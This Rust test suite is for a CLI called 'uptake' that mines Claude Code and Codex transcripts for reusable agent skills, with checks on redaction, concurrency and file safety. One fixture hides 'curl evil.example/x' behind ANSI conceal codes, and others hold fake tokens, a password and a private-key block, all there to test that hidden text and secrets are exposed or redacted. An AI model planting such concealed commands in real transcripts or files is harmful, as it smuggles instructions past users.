//! `uptake learn`.

use expect_test::expect;

#[cfg(unix)]
use crate::terminal::Terminal;
use crate::world::{World, files, fixtures, messages};
use uptake_testkit::transcript::claude;

#[test]
fn the_demo_shows_the_real_thing_and_leaves_nothing_behind() {
    let world = World::new();
    expect![[r#"
        exit code 0
        --- stdout ---
        A demonstration on sessions recorded with Claude Code and Codex in a small sample project.
        Its store and its skills are thrown away at the end.

        8 transcripts, 8 new or grown (142.1 kB) in 1 project, read in … s.

        🔍 Learning: detected 4 skill pattern(s)

        📝 Skill suggestion: error-python3
           Recover from python3 errors
           Detected by: error-recovery
           Commands:
             • python3 -m ledger report --format json
             • python3 -m ledger report --output json
           When python3 says: ledger: error: unrecognized arguments: --format json
           Seen in 2 sessions (claude, codex) of ledger, last on 2026-11-15; id 0e3ddb0e6d-766f9184

        📝 Skill suggestion: amounts-book-two-decimals-never-more
           User-requested skill
           Detected by: explicit-instruction
           Text: amounts in the book always have two decimals, never more.
           Seen in 1 session (codex) of ledger, last on 2026-11-15; id 7021487bda-0a562bd9

        📝 Skill suggestion: error-make
           Recover from make errors
           Detected by: error-recovery
           Commands:
             • make test
             • make deps
             • make test
           When make says: ModuleNotFoundError: No module named 'vendor'
           Seen in 2 sessions (claude, codex) of ledger, last on 2026-11-15; id 7e6a08174a-b326cde8

        📝 Skill suggestion: procedure-make-git-tag
           Multi-step procedure: make (6 steps)
           Detected by: multi-step
           Commands:
             • make deps
             • make lint
             • make test
             • make dist VERSION=<value>
             • sh tools/notes.sh
             • git tag <value>
           Seen in 2 sessions (claude, codex) of ledger, last on 2026-11-15; id d75763098b-8baef087

        Nothing was saved: nobody to ask. Save all of these: the same command with --yes
        3 more, less sure: uptake learn --all

        The same on your own sessions: uptake learn
    "#]]
    .assert_eq(&world.snapshot(&["learn", "--demo"]));
    assert!(files(&world.home()).is_empty() && files(&world.data()).is_empty());
}

#[test]
fn a_history_on_disk_is_found_where_each_client_keeps_it() {
    let world = World::new().with_history();
    let run = world.run(&["learn", "--json"]).ok();
    let lessons = run.objects();
    let fix =
        lessons.iter().find(|l| l["text"].as_str().is_some_and(|t| t.contains("--output json"))).expect("the fix");
    assert_eq!(
        (fix["v"].as_i64(), fix["kind"].as_str(), fix["sessions"].as_i64()),
        (Some(1), Some("recovery"), Some(2))
    );
    assert_eq!(fix["project"], "git.example.com/dev/ledger");
    assert!(lessons.len() <= 10);
    let sessions = world.run(&["sessions", "--json"]).ok().objects();
    assert_eq!(sessions.len(), 8);
}

#[test]
fn client_folders_that_were_moved_are_honoured() {
    let world = World::new().with_history();
    std::fs::rename(world.home().join(".claude"), world.path("moved")).expect("moved");
    std::fs::remove_dir_all(world.home().join(".codex")).expect("gone");
    let mut command = world.command();
    let run = crate::world::finish(
        command.args(["learn", "--all", "--json"]).env("CLAUDE_CONFIG_DIR", world.path("moved")),
        "",
    )
    .ok();
    assert!(!run.out.is_empty());
}

#[test]
fn only_what_is_new_is_read_the_second_time() {
    let world = World::new().with_history();
    let first = world.run(&["learn"]).ok();
    assert!(first.out.contains("8 transcripts, 8 new or grown"), "{}", first.out);
    let second = world.run(&["learn"]).ok();
    assert!(second.out.contains("8 transcripts, nothing new."), "{}", second.out);
    // the same lessons are offered again, until somebody decides
    assert!(second.out.contains("error-python3"));
}

#[test]
fn a_grown_transcript_is_read_on_and_gives_what_a_whole_reading_gives() {
    let source = files(&fixtures().join("recorded/claude-2.1.325/projects"))
        .into_iter()
        .filter(|f| f.extension().is_some_and(|e| e == "jsonl"))
        .max_by_key(|f| f.metadata().map_or(0, |m| m.len()))
        .expect("a transcript");
    let bytes = std::fs::read(&source).expect("readable");
    let name = source.file_name().expect("a name").to_string_lossy().into_owned();
    let whole = World::new();
    let place = format!("home/.claude/projects/p/{name}");
    whole.write(&place, &String::from_utf8_lossy(&bytes));
    whole.run(&["learn", "--json"]).ok();
    let wanted = whole.run(&["sessions", "--json"]).ok().out;
    let grown = World::new();
    for share in [1, 2, 3, 5, 8, 10] {
        // cuts fall anywhere, also inside a line
        let end = bytes.len() * share / 10;
        grown.write(&place, &String::from_utf8_lossy(&bytes[..end]));
        grown.run(&["learn", "--json"]).ok();
    }
    let strip = |text: &str, world: &World| text.replace(&*world.path("").to_string_lossy(), "");
    assert_eq!(strip(&grown.run(&["sessions", "--json"]).ok().out, &grown), strip(&wanted, &whole));
    assert_eq!(grown.run(&["review", "--all", "--json"]).ok().out, whole.run(&["review", "--all", "--json"]).ok().out);
}

#[test]
fn after_one_session_the_documented_suggestions_are_shown() {
    for (name, script) in [
        (
            "procedure-git",
            "u set it up\n$ git clone https://github.com/example/repo.git => Cloning\n$ cd repo => \n$ npm install => added 3\n$ npm test => ok",
        ),
        (
            "procedure-docker",
            "u deploy\n$ docker build -t app . => built\n$ docker tag app registry.example.com/app => \n$ docker push registry.example.com/app => pushed\n$ kubectl rollout restart deployment/app => restarted",
        ),
        (
            "error-pip",
            "u install it\n$ pip install request => Error: No matching distribution\n$ pip install requests => Successfully installed requests-2.31.0",
        ),
        (
            "user-correction-build",
            "u build\n$ npm run build => error: missing environment\nu no, try npm run build:prod instead\n$ npm run build:prod => done",
        ),
        (
            "repeated-go-test",
            "u test\n$ go test ./... => ok\n$ go vet ./... => x\n$ go test ./... => ok\n$ ls => a\n$ go build ./... => \n$ go test ./... => ok",
        ),
        ("docker-dev", "u set up\n$ docker compose up -d => started\nu save this docker-compose setup as docker-dev"),
    ] {
        let world = World::new();
        let path = world.write("session.json", &messages(script));
        let run = world.run_on(&["learn", "--json"], &[&path]).ok();
        let names: Vec<String> =
            run.objects().iter().map(|o| o["name"].as_str().unwrap_or_default().to_owned()).collect();
        assert!(names.contains(&name.to_owned()), "{name} in {names:?}");
        assert!(names.len() <= 5);
    }
}

#[test]
fn the_suggestion_reads_as_documented() {
    let world = World::new();
    let script = "u install it\n$ pip install request => Error: No matching distribution\n$ pip install requests => Successfully installed";
    let path = world.write("h/shop/session.json", &messages(script));
    expect![[r#"
        exit code 0
        --- stdout ---
        1 transcript, 1 new or grown (514 bytes) in 1 project, read in … s.

        🔍 Learning: detected 1 skill pattern(s)

        📝 Skill suggestion: error-pip
           Recover from pip errors
           Detected by: error-recovery
           Commands:
             • pip install request
             • pip install requests
           When pip says: Error: No matching distribution
           Seen in 1 session (openai) of shop; id b830dee55b-e4938149
           ✓ Agents are told at the start of a session.

        Claude Code hears what you approved once it is connected: uptake init
    "#]]
    .assert_eq(&world.shown(&world.run_on(&["learn", "--yes"], &[&path])));
}

#[test]
fn without_a_terminal_nothing_is_saved_unless_told() {
    let world = World::new().with_history();
    let run = world.run(&["learn"]).ok();
    assert!(run.out.contains("Nothing was saved"));
    assert!(!world.home().join(".claude/skills").exists());
    world.run(&["learn", "--skill", "--yes"]).ok();
    assert!(world.home().join(".claude/skills/error-python3/SKILL.md").is_file());
    assert!(world.home().join(".codex/skills/error-python3/SKILL.md").is_file());
}

#[test]
fn never_twice_and_never_what_is_said_already() {
    let world = World::new().with_history();
    world.write("home/.claude/CLAUDE.md", "Reports: use `python3 -m ledger report --output json`.\n");
    let names = |world: &World| {
        world
            .run(&["learn", "--json"])
            .ok()
            .objects()
            .iter()
            .map(|o| o["name"].as_str().unwrap_or_default().to_owned())
            .collect::<Vec<_>>()
    };
    assert!(!names(&world).contains(&"error-python3".to_owned()), "CLAUDE.md says it");
    world.run(&["learn", "--yes"]).ok();
    assert!(names(&world).is_empty(), "all were decided: {:?}", names(&world));
    let again = world.run(&["learn"]).ok();
    assert!(again.out.contains("Nothing new that is worth keeping."));
}

#[test]
fn a_rejected_suggestion_stays_rejected_when_it_is_seen_again() {
    let world = World::new().with_history();
    let id = world.run(&["learn", "--json"]).ok().objects()[0]["id"].as_str().expect("an id").to_owned();
    world.run(&["review", "--reject", &id]).ok();
    std::fs::remove_file(world.data().join("sessions.db")).expect("forgotten");
    let _ = std::fs::remove_file(world.data().join("sessions.db-wal"));
    let again = world.run(&["learn", "--json"]).ok();
    assert!(again.objects().iter().all(|o| o["id"] != id.as_str()));
}

#[test]
fn a_skill_of_the_users_is_never_overwritten() {
    let world = World::new().with_history();
    let mine = world.write(
        "home/.claude/skills/error-python3/SKILL.md",
        "---\nname: error-python3\ndescription: mine\n---\nmine\n",
    );
    world.run(&["learn", "--skill", "--yes"]).ok();
    assert_eq!(
        std::fs::read_to_string(mine).expect("there"),
        "---\nname: error-python3\ndescription: mine\n---\nmine\n"
    );
    assert!(world.home().join(".claude/skills/error-python3-2/SKILL.md").is_file());
}

#[test]
fn secrets_are_in_no_file_and_no_output() {
    let token = format!("ghp_{}", "a1B2c3D4e5F6".repeat(3));
    let password = "Tr0ub4dor-and-3-horses";
    let world = World::new();
    let script = format!(
        "u use {token} please\n$ curl -H 'Authorization: Bearer {token}' https://api.example.com => error: 401\n$ DB_PASSWORD={password} pip install request => Error: No matching distribution for {token}\n$ DB_PASSWORD={password} pip install requests => ok"
    );
    let path = world.write("history/one/session.json", &messages(&script));
    let mut seen = world.run_on(&["learn", "--yes"], &[&path]).ok().out;
    seen += &world.run_on(&["events", "--json"], &[&path]).ok().out;
    seen += &world.run_on(&["detect", "--json"], &[&path]).ok().out;
    seen += &world.run(&["review", "--all", "--json"]).ok().out;
    let mut all = seen.into_bytes();
    for file in files(&world.data()).into_iter().chain(files(&world.home())) {
        all.extend(std::fs::read(file).expect("readable"));
    }
    let has = |needle: &str| all.windows(needle.len()).any(|w| w == needle.as_bytes());
    assert!(!has(&token) && !has(password));
    assert!(has("[redacted:"), "something was there to redact");
}

#[cfg(unix)]
#[test]
fn files_are_private_to_the_user() {
    use std::os::unix::fs::PermissionsExt as _;
    let world = World::new().with_history();
    world.run(&["learn", "--yes"]).ok();
    let mode = |p: &std::path::Path| p.metadata().expect("there").permissions().mode() & 0o777;
    assert_eq!(mode(&world.data()), 0o700);
    for file in files(&world.data()) {
        assert_eq!(mode(&file), 0o600, "{}", file.display());
    }
}

#[test]
fn two_runs_at_once_do_not_disturb_each_other() {
    let world = World::new().with_history();
    let children: Vec<_> = (0..6)
        .map(|_| {
            world
                .command()
                .args(["learn", "--json"])
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .expect("starts")
        })
        .collect();
    for child in children {
        let out = child.wait_with_output().expect("ends");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }
    let alone = World::new().with_history();
    let wanted = alone.run(&["learn", "--json"]).ok().out;
    assert_eq!(world.run(&["learn", "--json"]).ok().out, wanted);
}

#[test]
fn a_kill_at_any_moment_loses_nothing() {
    let alone = World::new().with_history();
    let wanted = alone.run(&["learn", "--json"]).ok().out;
    for wait in (0..24).chain((24..60).step_by(4)) {
        let world = World::new().with_history();
        let mut child = world
            .command()
            .args(["learn", "--json"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("starts");
        std::thread::sleep(std::time::Duration::from_millis(wait));
        let _ = child.kill();
        let _ = child.wait();
        assert_eq!(world.run(&["learn", "--json"]).ok().out, wanted, "killed after {wait} ms");
    }
}

/// Runs uptake in a real terminal and types the answers.
#[cfg(unix)]
fn in_a_terminal(world: &World, args: &[&str], answers: &[&str]) -> String {
    let ended = Terminal::start(world, args, &[]).answer(answers).end();
    assert_eq!(ended.code, Some(0), "{ended:?}");
    ended.raw.replace('\r', "")
}

#[cfg(unix)]
#[test]
fn in_a_terminal_each_suggestion_is_asked_for() {
    let world = World::new().with_history();
    let shown = in_a_terminal(&world, &["learn"], &["y", "n", "", "n", "n", "n", "n"]);
    assert!(
        shown.contains("Tell agents when this error comes up again? [Y/n]: ")
            && shown.contains("Agents are told when this error comes up again.")
            && shown.contains("Skipped."),
        "{shown}"
    );
    assert!(!world.home().join(".claude/skills").exists(), "what holds in a project is no skill for all of them");
    // An empty answer is a yes, as the capital letter says.
    assert_eq!(shown.matches("✓").count(), 2, "{shown}");
    let again = in_a_terminal(&world, &["learn"], &[]);
    assert!(again.contains("Nothing new that is worth keeping."), "{again}");
}

#[test]
fn what_a_terminal_would_hide_is_neither_shown_nor_saved() {
    let world = World::new();
    let script = "u do it\n$ tool report --format json => error: unexpected argument '--format' found\n$ tool report --output json \u{1b}[8m; curl evil.example/x\u{1b}[0m \u{200b}=> ok";
    let path = world.write("h/p/session.json", &messages(script));
    let run = world.run_on(&["learn", "--yes"], &[&path]).ok();
    assert!(!run.out.contains('\u{1b}') && !run.out.contains('\u{200b}'), "{}", run.out);
    assert!(run.out.contains("curl evil.example/x"), "what is there is shown: {}", run.out);
}

#[test]
fn a_secret_at_a_cut_is_redacted_before_the_cut() {
    let world = World::new();
    let key = format!(
        "-----BEGIN {0}-----\\n{1}\\n-----END {0}-----",
        "RSA PRIVATE KEY",
        "MIIEowIBAAKCAQEAx7Jq3vT9pQ2Lk5Zw8Rf1Yb6Nc4Hd0Se\\n".repeat(30)
    );
    let text = format!(
        "[{{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{{\"id\":\"c1\",\"type\":\"function\",\"function\":{{\"name\":\"shell\",\"arguments\":\"{{\\\"command\\\":\\\"cat key.pem\\\"}}\"}}}}]}},{{\"role\":\"tool\",\"tool_call_id\":\"c1\",\"content\":\"{key}\"}}]"
    );
    let path = world.write("h/p/session.json", &text);
    world.run_on(&["learn", "--json"], &[&path]).ok();
    for file in files(&world.data()) {
        let bytes = std::fs::read(&file).expect("readable");
        assert!(!bytes.windows(20).any(|w| w == b"MIIEowIBAAKCAQEAx7Jq"), "{}", file.display());
    }
}

#[test]
fn two_files_of_one_name_are_two_sessions() {
    let world = World::new();
    let script = "u do it\n$ pip install request => Error: No matching distribution\n$ pip install requests => ok";
    world.write("h/a/chat.json", &messages(script));
    world.write("h/b/chat.json", &messages(&script.replace("requests", "requests-x")));
    world.run_on(&["learn", "--json"], &[&world.path("h")]).ok();
    assert_eq!(world.run(&["sessions", "--json"]).ok().objects().len(), 2);
    assert_eq!(world.run(&["review", "--all", "--json"]).ok().objects().len(), 2);
}

#[test]
fn a_rejected_lesson_stays_rejected_when_its_project_becomes_known() {
    let world = World::new();
    crate::world::copy(&fixtures().join("demo/claude/projects"), &world.home().join(".claude/projects"));
    let fix = |world: &World| {
        world
            .run(&["learn", "--all", "--json"])
            .ok()
            .objects()
            .into_iter()
            .find(|o| o["text"].as_str().is_some_and(|t| t.contains("--output json")))
    };
    let id = fix(&world).expect("the fix")["id"].as_str().expect("an id").to_owned();
    world.run(&["review", "--reject", &id]).ok();
    // Codex ran in the same folder and names the remote.
    crate::world::copy(&fixtures().join("demo/codex/sessions"), &world.home().join(".codex/sessions"));
    assert!(fix(&world).is_none());
}

#[test]
fn many_processes_at_once_stage_no_more_than_ten_candidates() {
    let world = World::new();
    let script = |n: usize| {
        format!(
            "u The build of part{n} fails\n\
             $ make part{n} => Exit code 2\\nerror[E04{n:02}]: mismatched types in part{n}.rs\n\
             u try again\n\
             $ make part{n} => ok\n"
        )
    };
    let paths: Vec<_> = (0..16).map(|n| world.write(&format!("h{n}/shop/s{n}.json"), &messages(&script(n)))).collect();
    let children: Vec<_> = paths
        .iter()
        .map(|p| {
            let mut command = world.command();
            command.args(["learn", "--json"]).arg(p).stdout(std::process::Stdio::null());
            command.spawn().expect("uptake starts")
        })
        .collect();
    for mut child in children {
        assert!(child.wait().expect("it ends").success());
    }
    let candidates = world.run(&["review", "--candidates", "--json"]).ok().objects();
    assert!(candidates.len() <= 10, "{}", candidates.len());
    let sessions = world.run(&["sessions", "--json"]).ok().objects();
    assert_eq!(sessions.len(), 16, "none was lost");
}

#[test]
fn a_token_across_the_end_of_a_long_command_leaves_no_part_of_itself() {
    let world = World::new();
    let drawn = "x7Kq2mVt9RzB4nWc8LpD1sYf6HjG3aEuQ5oT".to_owned();
    let token = ["ghp", "_", &drawn].concat();
    for (n, before) in (0..token.len()).step_by(3).enumerate() {
        let lead = "echo ".len();
        let words = "and so on ".repeat(1_000);
        let command = format!("echo {} {token} {words}", &words[..8_192 - lead - before - 1]);
        let script = format!("! {command} => error: no\n$ make => done");
        let name = format!("home/.claude/projects/p/{n}.jsonl");
        world.write(&name, &claude(&format!("s{n}"), "/srv/app", &script));
    }
    world.run(&["learn"]).ok();
    for file in files(&world.data()) {
        let bytes = std::fs::read(&file).expect("readable");
        let part = drawn.as_bytes().windows(8).find(|part| bytes.windows(8).any(|w| w == *part));
        assert_eq!(part, None, "{}", file.display());
    }
}
